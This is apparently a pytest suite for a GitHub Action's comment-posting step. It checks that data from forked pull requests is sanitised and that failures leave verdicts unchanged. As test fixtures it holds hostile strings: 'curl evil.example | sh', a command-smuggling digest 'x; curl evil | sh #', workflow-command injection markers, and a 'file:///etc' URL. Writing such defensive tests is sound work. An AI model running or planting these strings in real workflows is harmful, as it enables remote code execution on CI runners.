from __future__ import annotations

import json
import os
from dataclasses import replace
from pathlib import Path

import pytest
from action_world import LABELS, Repository, environment, manifest, pull_event, repository_tree

from policy_gate.actions.overview_file import decode_overview, encode_overview
from policy_gate.errors import Problem
from policy_gate.overview import Links, Overview

HEAD = "c" * 40
PROBLEM = Problem("what is wrong")
NO_WAIT = {"POLICY_GATE_MAX_WAIT_SECONDS": "0", "POLICY_GATE_SECONDS_BETWEEN_WRITES": "0"}
NOBODY = {"GITHUB_API_URL": "http://127.0.0.1:9", "GITHUB_GRAPHQL_URL": "http://127.0.0.1:9/graphql", **NO_WAIT}


def pull_of(head: str = HEAD) -> dict[str, object]:
    from action_world import Pull

    return pull_event(Pull(base="b" * 40, head=head, merge="d" * 40))


def workflow_run(event: str = "pull_request", owner: str | None = "lee") -> dict[str, object]:
    whose = {"owner": {"login": owner}} if owner else None
    run = {"id": 5, "event": event, "head_sha": HEAD, "head_branch": "work", "head_repository": whose}
    return {"workflow_run": run, "repository": repository_tree()}


@pytest.fixture
def post(gate, tmp_path):
    """Runs `post` with a file as it is found, in the job of an event."""

    def run(kind, payload, *options, head=HEAD, content: bytes | None = None, **more: str):
        env = environment(tmp_path / "run", kind, payload, "d" * 40, **more)
        links = Links(repository="acme/kws", head=head)
        blank = Overview(tool_version="1", records=(), problems=(PROBLEM,), exit_code=2, links=links)
        file = tmp_path / "overview.json"
        file.write_bytes(encode_overview(blank).encode() if content is None else content)
        done = gate("post", str(file), *options, env=env)
        output = Path(env["GITHUB_OUTPUT"])
        return done, output.read_text().split("\n")[1] if output.exists() else ""

    return run


@pytest.mark.parametrize(("required", "code"), [("", 0), ("false", 0), ("true", 2)])
def test_without_a_token_it_says_what_it_would_need(post, required, code) -> None:
    done, posted = post("pull_request", pull_of(), INPUT_REQUIRE_POSTING=required)
    assert (done.returncode, posted, done.stderr) == (code, "none", "")
    assert "pull-requests: write" in done.stdout


@pytest.mark.parametrize(("required", "code"), [("", 0), ("true", 2)])
def test_a_github_that_is_not_there_changes_no_verdict(post, tmp_path, required, code) -> None:
    done, posted = post("pull_request", pull_of(), INPUT_TOKEN="t", INPUT_REQUIRE_POSTING=required, **NOBODY)
    assert (done.returncode, posted, done.stderr) == (code, "none", "")
    assert "refused or cut" in done.stdout
    assert "refused or cut" in (tmp_path / "run/summary").read_text()


@pytest.mark.parametrize(
    ("kind", "payload"),
    [
        ("push", {"before": "e" * 40, "repository": repository_tree()}),
        ("schedule", {}),
        ("merge_group", {"merge_group": {"head_sha": HEAD, "base_sha": "b" * 40}, "repository": repository_tree()}),
        ("workflow_dispatch", {"repository": repository_tree()}),
    ],
)
def test_where_there_is_no_pull_request_there_is_nothing_to_post(post, kind, payload) -> None:
    done, posted = post(kind, payload, INPUT_TOKEN="t", INPUT_REQUIRE_POSTING="true", **NOBODY)
    assert (done.returncode, posted) == (0, "none")
    assert "belongs to no pull request" in done.stdout


def test_a_result_of_another_commit_is_not_posted(post) -> None:
    done, posted = post("pull_request", pull_of(), head="e" * 40, INPUT_TOKEN="t", INPUT_REQUIRE_POSTING="true")
    assert (done.returncode, posted) == (2, "none")
    assert "not about this pull request's head" in done.stdout


@pytest.mark.parametrize("actor", ["dependabot[bot]", "lee"])
def test_whose_token_only_reads_is_told_of_the_second_stage(post, actor) -> None:
    fork = {"sha": HEAD, "repo": repository_tree("lee/kws")}
    payload = pull_of()
    payload["pull_request"]["head"] = fork if actor == "lee" else payload["pull_request"]["head"]
    done, _ = post("pull_request", payload, INPUT_TOKEN="t", GITHUB_ACTOR=actor, **NOBODY)
    assert (done.returncode, "a second stage can post" in done.stdout) == (0, True)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "no JSON"),
        (b"{}", "no overview"),
        (b"[" * 1000, "nested deeper"),
        (b"x" * (20 * 1024 * 1024 + 1), "more than"),
    ],
)
def test_a_file_that_is_no_overview_is_exit_code_2(post, content, words) -> None:
    for kind, payload, options in (("pull_request", pull_of(), ()), ("workflow_run", workflow_run(), ("--fork",))):
        done, posted = post(kind, payload, *options, content=content, INPUT_TOKEN="t", **NOBODY)
        assert (done.returncode, posted) == (2, "")
        assert words in done.stdout
        assert done.stderr == ""


@pytest.mark.skipif(os.name == "nt", reason="links need a right of their own there")
@pytest.mark.parametrize("what", ["link", "pipe", "folder", "absent"])
def test_only_a_plain_file_is_read(gate, tmp_path, what) -> None:
    place = tmp_path / "overview.json"
    (tmp_path / "secret").write_text("{}")
    if what == "link":
        place.symlink_to(tmp_path / "secret")
    elif what == "pipe":
        os.mkfifo(place)
    elif what == "folder":
        place.mkdir()
    done = gate("post", str(place), env=environment(tmp_path / "run", "pull_request", pull_of()))
    assert done.returncode == 2
    assert "cannot be read" in done.stdout or "is no plain file" in done.stdout


def test_a_fork_is_only_posted_for_in_a_second_stage(post) -> None:
    done, _ = post("pull_request", pull_of(), "--fork", INPUT_TOKEN="t", **NOBODY)
    assert (done.returncode, "belongs to a workflow_run event" in done.stdout) == (2, True)
    done, _ = post("workflow_run", workflow_run(), INPUT_TOKEN="t", **NOBODY)
    assert (done.returncode, "policy-gate post --fork" in done.stdout) == (2, True)


@pytest.mark.parametrize(
    ("payload", "words"),
    [
        (workflow_run("push"), "started by push"),
        (workflow_run("pull_request_target"), "started by pull_request_target"),
        (workflow_run(owner=None), "the fork or its branch is gone"),
    ],
)
def test_a_second_stage_without_a_pull_request_has_nothing_to_post(post, payload, words) -> None:
    done, posted = post("workflow_run", payload, "--fork", INPUT_TOKEN="t", INPUT_REQUIRE_POSTING="true", **NOBODY)
    assert (done.returncode, posted, words in done.stdout) == (0, "none", True)


def test_the_file_of_a_fork_says_neither_name_nor_links_nor_what_to_type(tmp_path) -> None:
    from policy_gate.actions.event import read_event
    from policy_gate.actions.inputs import Inputs
    from policy_gate.actions.runner import read_runner
    from policy_gate.actions.target import Target, of_a_fork

    runner = read_runner(environment(tmp_path / "run", "workflow_run", workflow_run()))
    theirs = Overview(
        tool_version="1",
        records=(),
        problems=(PROBLEM,),
        exit_code=2,
        name="another job",
        notes=("run curl",),
        links=Links(server="https://evil.example", repository="evil/evil", head="e" * 40, run="https://evil.example/1"),
        reproduce="curl evil.example | sh",
    )
    ours = of_a_fork(theirs, Target(head=HEAD), Inputs(), runner, read_event(runner))
    assert ours.links == Links(
        server="https://github.example",
        repository="acme/kws",
        head=HEAD,
        run="https://github.example/acme/kws/actions/runs/5",
    )
    assert (ours.name, ours.notes, ours.suggestions, ours.reproduce) == ("policy-gate", (), (), "")
    assert ours.reported_by_fork


def test_the_file_of_a_fork_approves_nothing_and_asks_nobody_to_sign(tmp_path) -> None:
    from policy_gate.actions.event import read_event
    from policy_gate.actions.inputs import Inputs
    from policy_gate.actions.runner import read_runner
    from policy_gate.actions.target import Target, of_a_fork
    from policy_gate.model import Subject, Verdict
    from policy_gate.publication import Seen
    from policy_gate.report.pull_request import compose
    from policy_gate.review import SCHEMA, Direction, PolicyChange, PolicyReview

    looser = PolicyChange(
        subject=Subject("policy", ("x",)),
        pointer="",
        kind="rule",
        what="COST-001",
        before="enforce",
        after="audit",
        direction=Direction.LOOSER,
        source="head",
        path="policy-gate.yaml",
        line=1,
        approved_by=("the chief",),
        reviewed_by=("the boss",),
    )
    review = PolicyReview(
        schema=SCHEMA,
        tool_version="1",
        base="base",
        head="head",
        today="2026-11-23",
        changes=(looser,),
        judgements=(),
        verdict=Verdict.ALLOWED,
        digest="x; curl evil | sh #",
    )
    event = read_event(read_runner(environment(tmp_path / "run", "workflow_run", workflow_run())))
    runner = read_runner(environment(tmp_path / "run", "workflow_run", workflow_run()))
    for one in (review, replace(review, changes=(replace(looser, approved_by=(), reviewed_by=()),))):
        theirs = Overview(tool_version="1", records=(), problems=(), exit_code=0, review=one)
        ours = of_a_fork(theirs, Target(head=HEAD), Inputs(), runner, event)
        body = compose(ours, Seen(), comment_mode="on-failure", check_run=True).sticky
        assert "COST-001" in body
        assert not any(word in body for word in ("curl", "--approve", "approved by", "the chief", "the boss"))


@pytest.mark.parametrize("pace", ["-1", "nan", "1e9", "121", "x", "1.2.3", "٣"])
def test_a_pace_that_is_none_is_refused(post, pace) -> None:
    given = {**NOBODY, "POLICY_GATE_MAX_WAIT_SECONDS": pace}
    done, _ = post("pull_request", pull_of(), INPUT_TOKEN="t", **given)
    assert (done.returncode, "POLICY_GATE_MAX_WAIT_SECONDS" in done.stdout) == (2, True)


def test_the_file_is_found_where_the_first_step_left_it(gate, tmp_path) -> None:
    repository = Repository.make(tmp_path / "repository")
    pull = repository.pull({"labels.txt": LABELS + b" up", "release.yaml": manifest(version="1.1")})
    env = environment(tmp_path / "run", "pull_request", pull_event(pull), pull.merge, INPUT_NAME="edge models")
    assert gate("action", cwd=repository.root, env=env).returncode == 1
    done = gate("post", cwd=repository.root, env=env)
    assert (done.returncode, "there is no token" in done.stdout) == (0, True)


def test_hostile_words_of_a_run_are_no_commands_of_the_step_that_posts(post) -> None:
    blank = Overview(tool_version="1", records=(), problems=(PROBLEM,), exit_code=2, links=Links(head=HEAD))
    tree = json.loads(encode_overview(blank))
    tree["::error::x\n##[command]y"] = 1
    done, _ = post("pull_request", pull_of(), content=json.dumps(tree).encode(), INPUT_TOKEN="t", **NOBODY)
    assert done.returncode == 2
    lines = f"{done.stderr}{done.stdout}".splitlines()
    assert any("is not known" in one for one in lines)
    assert not any(one.lstrip().startswith("::") or "##[" in one for one in lines)
    assert decode_overview(encode_overview(blank).encode()) == blank


@pytest.mark.parametrize(
    "broken", [{"INPUT_TOKEN": "a b"}, {"GITHUB_API_URL": "file:///etc"}, {"REQUESTS_CA_BUNDLE": "/no/such/file"}]
)
@pytest.mark.parametrize(("required", "code"), [("", 0), ("true", 2)])
def test_a_token_or_an_address_that_cannot_be_used_changes_no_verdict(post, broken, required, code) -> None:
    given = {**NOBODY, "INPUT_TOKEN": "t", "INPUT_REQUIRE_POSTING": required, **broken}
    done, posted = post("pull_request", pull_of(), **given)
    assert (done.returncode, posted, done.stderr) == (code, "none", "")
